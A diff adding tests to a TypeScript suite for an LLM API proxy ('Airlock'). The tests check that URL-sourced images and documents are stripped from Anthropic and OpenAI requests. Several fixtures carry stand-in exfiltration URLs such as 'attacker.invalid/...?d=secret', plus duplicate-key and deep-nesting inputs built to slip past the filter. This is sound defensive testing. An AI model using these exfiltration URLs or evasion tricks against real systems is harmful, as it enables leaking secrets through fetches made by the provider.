@@ -181,6 +181,86 @@ describe('model proxy side doors', () => {
     expect(events).toEqual([expect.objectContaining({ stripped: ['mcp_servers', 'web_search'] })]);
   });
 
+  // Issue 22, item 3: content whose source is a URL makes the provider fetch it.
+  it('URL-sourced content: Anthropic url images/documents (user turn, tool_result, system) become notes upstream; base64 stays; recorded', async () => {
+    up.setScript([{ text: 'ok' }]);
+    const b64 = { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' } };
+    const r = await post('/v1/messages', {
+      model: 'claude-x',
+      max_tokens: 10,
+      system: [{ type: 'text', text: 'sys' }, { type: 'document', source: { type: 'url', url: 'https://attacker.invalid/sys?d=secret' } }],
+      messages: [
+        { role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.invalid/u.png?d=secret' } }, b64] },
+        { role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'read_file', input: {} }] },
+        { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.invalid/t.pdf' } }] }] },
+      ],
+    }, { 'anthropic-version': '2023-06-01' });
+    expect(r.status).toBe(200);
+    const sent = up.requests.at(-1)!.raw as string;
+    expect(sent).not.toContain('attacker.invalid');
+    expect(sent).toContain('iVBORw0KGgo=');
+    expect(sent.match(/Airlock removed content the provider would have fetched/g)).toHaveLength(3);
+    expect(events).toEqual([{ runId: 'r-doors', provider: 'anthropic', path: '/v1/messages', stripped: ['url_content'], allowed: [] }]);
+  });
+
+  it('URL-sourced content: OpenAI Chat image_url/file parts and Responses input_image/input_file (also in function_call_output) are replaced; data: URLs stay', async () => {
+    up.setScript([{ text: 'ok' }, { text: 'ok' }]);
+    const chat = await post('/v1/chat/completions', {
+      model: 'gpt-x',
+      messages: [{ role: 'user', content: [{ type: 'text', text: 'hi' }, { type: 'image_url', image_url: { url: 'https://attacker.invalid/c.png' } }, { type: 'image_url', image_url: { url: 'data:image/png;base64,AAAA' } }, { type: 'file', file: { file_url: 'https://attacker.invalid/f.pdf' } }] }],
+    });
+    expect(chat.status).toBe(200);
+    const chatSent = up.requests.at(-1)!.raw as string;
+    expect(chatSent).not.toContain('attacker.invalid');
+    expect(chatSent).toContain('data:image/png;base64,AAAA');
+    const responses = await post('/v1/responses', {
+      model: 'gpt-x',
+      input: [
+        { type: 'message', role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.invalid/r.png' }] },
+        { type: 'function_call', call_id: 'c', name: 'shell', arguments: '{}' },
+        { type: 'function_call_output', call_id: 'c', output: [{ type: 'input_file', file_url: 'https://attacker.invalid/o.pdf' }] },
+      ],
+    });
+    expect(responses.status).toBe(200);
+    const body = up.requests.at(-1)!.body as { input: Array<Record<string, unknown>> };
+    expect(JSON.stringify(body)).not.toContain('attacker.invalid');
+    expect(body.input[2]?.output).toEqual([{ type: 'input_text', text: expect.stringMatching(/Airlock removed content/) }]);
+    expect(events.map((e) => e.stripped)).toEqual([['url_content'], ['url_content']]);
+  });
+
+  it('URL-sourced content: a conversation the policy read but left alone goes out byte for byte; with a duplicate key, as parsed', async () => {
+    up.setScript([{ text: 'ok' }, { text: 'ok' }]);
+    const conversation = '[ {"role":"user", "content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}, {"type":"text","text":"\u00e9"}]} ]';
+    const ok = await post('/v1/messages', `{"model":"claude-x","max_tokens":10,"messages" : ${conversation}}`, { 'anthropic-version': '2023-06-01' });
+    expect(ok.status).toBe(200);
+    expect(up.requests.at(-1)!.raw).toBe(`{"model":"claude-x","max_tokens":10,"messages" : ${conversation}}`);
+    // A first-wins parser upstream would read the https URL; the proxy forwards what JSON.parse read.
+    const dup = '{"model":"gpt-x","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.invalid/d.png"},"image_url":{"url":"data:image/png;base64,AA=="}}]}]}';
+    const r = await post('/v1/chat/completions', dup);
+    expect(r.status).toBe(200);
+    expect(up.requests.at(-1)!.raw).not.toContain('attacker.invalid');
+    expect(events).toEqual([]);
+  });
+
+  it('URL-sourced content passes only with the provider setting url_content, reported as allowed', async () => {
+    allow.anthropic = ['url_content'];
+    ({ token } = proxy.issueToken({ runId: 'r-doors', providers: ['anthropic', 'openai'] }));
+    up.setScript([{ text: 'ok' }]);
+    const r = await post('/v1/messages', { model: 'claude-x', max_tokens: 10, messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://example.invalid/ok.png' } }] }] }, { 'anthropic-version': '2023-06-01' });
+    expect(r.status).toBe(200);
+    expect(up.requests.at(-1)!.raw).toContain('https://example.invalid/ok.png');
+    expect(events).toEqual([expect.objectContaining({ allowed: ['url_content'], stripped: [] })]);
+  });
+
+  it('URL-sourced content nested too deep to check is refused in the provider\'s own error format', async () => {
+    const deep = `${'['.repeat(150)}{"type":"image","source":{"type":"url","url":"https://attacker.invalid"}}${']'.repeat(150)}`;
+    const r = await post('/v1/messages', `{"model":"claude-x","max_tokens":10,"messages":[{"role":"user","content":${deep}}]}`, { 'anthropic-version': '2023-06-01' });
+    expect(r.status).toBe(400);
+    expect(JSON.parse(r.text)).toMatchObject({ type: 'error', error: { type: 'invalid_request_error', message: expect.stringMatching(/deeper than 100 levels/) } });
+    expect(up.requests).toHaveLength(0);
+    expect(events).toEqual([expect.objectContaining({ refused: 'url_content' })]);
+  });
+
   it('a call without side doors is forwarded unchanged and reports nothing', async () => {
     up.setScript([{ text: 'ok' }]);
     const r = await post('/v1/messages', { model: 'claude-x', max_tokens: 10, messages: [{ role: 'user', content: 'hi' }], tools: [clientTool] }, { 'anthropic-version': '2023-06-01', 'anthropic-beta': 'claude-code-20250219' });
